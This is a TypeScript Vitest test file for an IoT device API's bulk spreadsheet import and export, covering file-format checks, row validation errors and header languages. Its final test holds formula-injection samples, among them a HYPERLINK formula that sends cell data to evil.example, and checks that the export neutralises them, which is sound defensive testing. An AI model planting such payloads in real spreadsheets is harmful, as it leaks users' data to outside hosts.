import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEVICE_SHEET_COLUMNS, ErrorCode, IMPORT_FORMAT_MESSAGE } from '@iot/contract';
import * as XLSX from '@e965/xlsx';
import { neutralizeCell, readSheet, writeSheet } from '../src/lib/sheet.js';
import { bearer, buildTestApp, multipart, type TestApp } from './helpers.js';

const EN = DEVICE_SHEET_COLUMNS.map((c) => c.en);
/** The header of sheets made while the warning level was still imported (9th column). */
const OLD_EN = [...EN.slice(0, 8), 'Warning level', ...EN.slice(8)];

describe('bulk device import and export', () => {
  let t: TestApp;
  let token: string;
  const upload = async (filename: string, rows: unknown[][], query = 'mode=all') => {
    const body = multipart(filename, await writeSheet('devices', rows));
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/v1/device/import?${query}`,
      headers: { ...bearer(token), ...body.headers },
      payload: body.payload,
    });
    return res.json();
  };
  const list = async (q = '') =>
    (await t.app.inject({ method: 'GET', url: `/api/v1/device/list?limit=200${q}`, headers: bearer(token) })).json().data;

  beforeAll(async () => {
    t = await buildTestApp();
    token = await t.login();
  });
  afterAll(() => t.close());

  it('serves a template per language', async () => {
    for (const [lang, first] of [['zh', '设备名称'], ['ja', 'デバイス名'], ['en', 'Device name']] as const) {
      const res = await t.app.inject({ method: 'GET', url: `/api/v1/device/importtemplate?lang=${lang}`, headers: bearer(token) });
      expect(res.headers['content-type']).toContain('spreadsheetml');
      expect((await readSheet(res.rawPayload))[0]![0]).toBe(first);
    }
  });

  it('refuses other formats and a missing attachment with the spec’s messages', async () => {
    const csv = multipart('devices.csv', Buffer.from('name,sn\n'));
    const wrong = await t.app.inject({ method: 'POST', url: '/api/v1/device/import', headers: { ...bearer(token), ...csv.headers }, payload: csv.payload });
    expect(wrong.json()).toMatchObject({ code: ErrorCode.VALIDATION, data: { field: 'file' } });
    expect(wrong.json().message).toContain(IMPORT_FORMAT_MESSAGE);
    const none = await t.app.inject({ method: 'POST', url: '/api/v1/device/import', headers: bearer(token), payload: {} });
    expect(none.json()).toMatchObject({ code: ErrorCode.VALIDATION, data: { field: 'file' } });
    const garbage = multipart('fake.xlsx', Buffer.from('this is not a spreadsheet'));
    const bad = await t.app.inject({ method: 'POST', url: '/api/v1/device/import', headers: { ...bearer(token), ...garbage.headers }, payload: garbage.payload });
    expect(bad.json().data.field).toBe('file');
  });

  it('detects the real format by its first bytes: anything but an xlsx or xls workbook is "not a spreadsheet"', async () => {
    const send = async (filename: string, data: Buffer) => {
      const body = multipart(filename, data);
      return (await t.app.inject({ method: 'POST', url: '/api/v1/device/import?dryRun=true', headers: { ...bearer(token), ...body.headers }, payload: body.payload })).json();
    };
    const header = EN.slice(0, 3).join(',');
    const impostors: [string, Buffer][] = [
      ['notes.xlsx', Buffer.from('name,sn,type\nPack,SN-1,BMU\n')],
      ['empty.xlsx', Buffer.alloc(0)],
      ['junk.xlsx', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 37) % 256))],
      ['table.xls', Buffer.from(`<table><tr><td>${EN[0]}</td><td>${EN[1]}</td><td>${EN[2]}</td></tr><tr><td>P</td><td>HTML-1</td><td>BMU</td></tr></table>`)],
      ['renamed.xls', Buffer.from(`${header}\nPack,CSV-1,BMU\n`)],
      ['zip.xlsx', Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.from('word/document.xml and nothing else')])],
      ['doc.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(2048, 0x41)])],
    ];
    for (const [name, data] of impostors) {
      expect(await send(name, data), name).toMatchObject({ code: ErrorCode.VALIDATION, data: { field: 'file', reason: 'notSpreadsheet' } });
    }
    // Real workbooks in both formats are read, whichever extension of the two they carry.
    const rows = [EN.slice(0, 3), ['Pack', 'REAL-1', 'BMU']];
    const wb = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(rows), 'devices');
    const biff8 = XLSX.write(wb, { type: 'buffer', bookType: 'biff8' }) as Buffer;
    expect(await send('old.xls', biff8)).toMatchObject({ code: 20000, data: { valid: 1 } });
    expect(await send('new.xls', await writeSheet('devices', rows))).toMatchObject({ code: 20000, data: { valid: 1 } });
  });

  it('reports every bad row with row, column and reason; all-or-nothing writes nothing (an old sheet with a warning level column)', async () => {
    await t.app.inject({ method: 'POST', url: '/api/v1/project/addproject', headers: bearer(token), payload: { name: 'Depot' } });
    // The warning level column of older sheets is ignored, whatever it holds (9 is no level).
    const rows = [
      OLD_EN,
      ['Pack 1', 'IMP-001', 'BMU', 'Depot', 'Bay 1', 121.5, 31.2, '', 1, '', '', '', '8986001', '861234567890123', 'LFP', '', ''],
      ['Pack 2', 'IMP-002', 'NOPE', '', '', '', '', '', '', '', '', '', '', '', '', '', ''],
      ['Pack 3', 'IMP-001', 'BMU', 'Nowhere', '', 'east', '', '', 9, '', '', '', '', 'abc', '', '', ''],
      ['', 'IMP-004', 'BMU', '', '', '', '', '', '', '', '', '', '', '', '', '', ''],
    ];
    const report = await upload('devices.xlsx', rows);
    expect(report.code).toBe(20000);
    expect(report.data).toMatchObject({ total: 4, valid: 1, imported: 0, mode: 'all' });
    // Each error names its cell and a refusal reason with params (the console translates it);
    // `message` is the English text for API users.
    const errs = report.data.errors.map(({ row, column, reason, params }: any) => ({ row, column, reason, params }));
    expect(errs).toEqual(
      expect.arrayContaining([
        { row: 3, column: 'type', reason: 'unknownTypeCode', params: { code: 'NOPE' } },
        { row: 4, column: 'project', reason: 'unknownProjectName', params: { name: 'Nowhere' } },
        { row: 4, column: 'lng', reason: 'numberRequired', params: {} },
        { row: 4, column: 'imei', reason: 'digitsOnly', params: {} },
        { row: 4, column: 'sn', reason: 'duplicateSnRow', params: { row: 2 } },
        { row: 5, column: 'name', reason: 'cellRequired', params: {} },
      ]),
    );
    expect(errs).toHaveLength(6);
    expect(report.data.errors.find((e: any) => e.row === 4 && e.column === 'sn').message).toBe('Same SN as row 2');
    expect((await list('&q=IMP-00')).total).toBe(0);

    const dry = await upload('devices.xlsx', rows, 'mode=valid&dryRun=true');
    expect(dry.data).toMatchObject({ valid: 1, imported: 0, dryRun: true });
    const partial = await upload('devices.xlsx', rows, 'mode=valid');
    expect(partial.data.imported).toBe(1);
    const [d] = (await list('&q=IMP-00')).items;
    expect(d).toMatchObject({ sn: 'IMP-001', projectName: 'Depot', typeName: '电池管理单元', lng: 121.5, warningLevel: 0, simNumber: '8986001' });

    // Importing the same SN again is reported, never half-written.
    const again = await upload('devices.xlsx', [OLD_EN, rows[1]!], 'mode=valid');
    expect(again.data).toMatchObject({ imported: 0, valid: 0 });
    expect(again.data.errors[0]).toMatchObject({
      row: 2,
      column: 'sn',
      reason: 'snTaken',
      params: { sn: 'IMP-001' },
      message: 'A device with SN IMP-001 already exists',
    });
  });

  it('maps every kind of bad cell to a reason by the validation issue’s code, never by its wording', async () => {
    await t.app.inject({ method: 'POST', url: '/api/v1/project/addproject', headers: bearer(token), payload: { name: 'Twin' } });
    await t.app.inject({ method: 'POST', url: '/api/v1/project/addproject', headers: bearer(token), payload: { name: 'Twin' } });
    const at = (key: string) => DEVICE_SHEET_COLUMNS.findIndex((c) => c.key === key);
    const row = (cells: Record<string, unknown>) => {
      const r: unknown[] = EN.map(() => '');
      for (const [k, v] of Object.entries(cells)) r[at(k)] = v;
      return r;
    };
    const report = await upload('kinds.xlsx', [
      EN,
      row({ name: 'x'.repeat(200), sn: 'BAD SN!', type: 'BMU', lat: 95, alarmPhone: 'call me' }),
      row({ name: 'Nul\u0000name', sn: 'KIND-2', project: 'Twin' }),
    ]);
    const errs = report.data.errors.map(({ row, column, reason, params }: any) => ({ row, column, reason, params }));
    expect(errs).toEqual(
      expect.arrayContaining([
        { row: 2, column: 'name', reason: 'tooLong', params: { max: expect.any(Number) } },
        { row: 2, column: 'sn', reason: 'snPattern', params: {} },
        { row: 2, column: 'lat', reason: 'numberRange', params: { min: -90, max: 90 } },
        { row: 2, column: 'alarmPhone', reason: 'phoneListPattern', params: {} },
        { row: 3, column: 'type', reason: 'cellRequired', params: {} },
        { row: 3, column: 'project', reason: 'ambiguousProjectName', params: { name: 'Twin' } },
        { row: 3, column: 'name', reason: 'nulCharacter', params: {} },
      ]),
    );
    expect(errs).toHaveLength(7);
    for (const e of report.data.errors) expect(e.message, e.reason).not.toMatch(/\{\{|expected|Invalid input/);
  });

  it('accepts headers in any language and in any order (.xls too)', async () => {
    const zh = DEVICE_SHEET_COLUMNS.map((c) => c.zh);
    const res = await upload('批量.xls', [[zh[1], zh[0], zh[2]], ['IMP-ZH-1', '电池一号', 'BMU']]);
    expect(res.data.imported).toBe(1);
    expect((await list('&q=IMP-ZH-1')).items[0].name).toBe('电池一号');
  });

  it('exports the devices matching the current filters', async () => {
    expect((await upload('export.xlsx', [EN.slice(0, 3), ['Exported 1', 'EXP-1', 'BMU'], ['Exported 2', 'EXP-2', 'BMU']])).data.imported).toBe(2);
    const res = await t.app.inject({ method: 'GET', url: '/api/v1/device/export?q=EXP-1&lang=zh', headers: bearer(token) });
    const sheet = await readSheet(res.rawPayload);
    expect(sheet[0]![1]).toBe('设备编码');
    expect(sheet.slice(1).map((r) => r[1])).toEqual(['EXP-1']);
    // The export shows the (read-only) warning level last; the template does not carry it.
    expect(sheet[0]!.at(-1)).toBe('告警等级');
    expect(sheet[1]!.at(-1)).toBe(0);
    expect(sheet[0]).toHaveLength(EN.length + 1);
    const template = await readSheet((await t.app.inject({ method: 'GET', url: '/api/v1/device/importtemplate?lang=zh', headers: bearer(token) })).rawPayload);
    expect(template[0]).not.toContain('告警等级');
    const all = await readSheet((await t.app.inject({ method: 'GET', url: '/api/v1/device/export', headers: bearer(token) })).rawPayload);
    const listed = (await list()).total;
    expect(all).toHaveLength(listed + 1);
    expect(all.slice(1).map((r) => r[1])).toEqual(expect.arrayContaining(['EXP-1', 'EXP-2']));
  });

  it('neutralises cells that a spreadsheet would run as formulas (OWASP), and re-imports them as written', async () => {
    const types = (await t.app.inject({ method: 'GET', url: '/api/v1/devicetype/typeoptionslist', headers: bearer(token) })).json().data;
    const hostile = {
      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      sn: 'FORMULA-1',
      typeId: types[0].id,
      alarmPhone: '+86 138 0000',
      remarks: '@SUM(1+1)',
      description: '-2+3',
      // A full-width equals sign (typed by East Asian input methods), a text that already starts
      // with a quote before a formula, and a separator of another CSV setting (one cell in xlsx).
      address: '＝1+1',
      manufacturerModel: "'=quoted",
      btCode: 'x;=1+1',
    };
    const add = await t.app.inject({ method: 'POST', url: '/api/v1/device/add', headers: bearer(token), payload: hostile });
    expect(add.json().code).toBe(20000);
    const res = await t.app.inject({ method: 'GET', url: '/api/v1/device/export?q=FORMULA-1&lang=en', headers: bearer(token) });
    const [header, row] = await readSheet(res.rawPayload) as string[][];
    const cell = (key: string) => row![DEVICE_SHEET_COLUMNS.findIndex((c) => c.key === key)];
    expect(header![0]).toBe('Device name');
    expect(cell('name')).toBe(`'${hostile.name}`);
    expect(cell('alarmPhone')).toBe(`'${hostile.alarmPhone}`);
    expect(cell('remarks')).toBe(`'${hostile.remarks}`);
    expect(cell('description')).toBe(`'${hostile.description}`);
    expect(cell('address')).toBe(`'${hostile.address}`);
    expect(cell('manufacturerModel')).toBe(`'${hostile.manufacturerModel}`);
    expect(cell('btCode')).toBe(hostile.btCode);
    expect(cell('sn')).toBe('FORMULA-1');

    // Tab, CR and space starts (trimmed away by the API's text fields) and numbers.
    expect([neutralizeCell('\tx'), neutralizeCell('\rx'), neutralizeCell(' =1'), neutralizeCell(-3), neutralizeCell('a=b')]).toEqual([
      "'\tx",
      "'\rx",
      "' =1",
      -3,
      'a=b',
    ]);

    // The exported file re-imports with the original texts (after deleting the device).
    const id = add.json().data.id;
    await t.app.inject({ method: 'DELETE', url: `/api/v1/device/delete?id=${id}`, headers: bearer(token) });
    const again = multipart('export.xlsx', res.rawPayload);
    const imported = await t.app.inject({ method: 'POST', url: '/api/v1/device/import', headers: { ...bearer(token), ...again.headers }, payload: again.payload });
    expect(imported.json().data).toMatchObject({ imported: 1, errors: [] });
    const back = (await list('&q=FORMULA-1')).items[0];
    expect(back).toMatchObject({
      name: hostile.name,
      alarmPhone: hostile.alarmPhone,
      remarks: hostile.remarks,
      description: hostile.description,
      address: hostile.address,
      manufacturerModel: hostile.manufacturerModel,
      btCode: hostile.btCode,
    });
  });
});
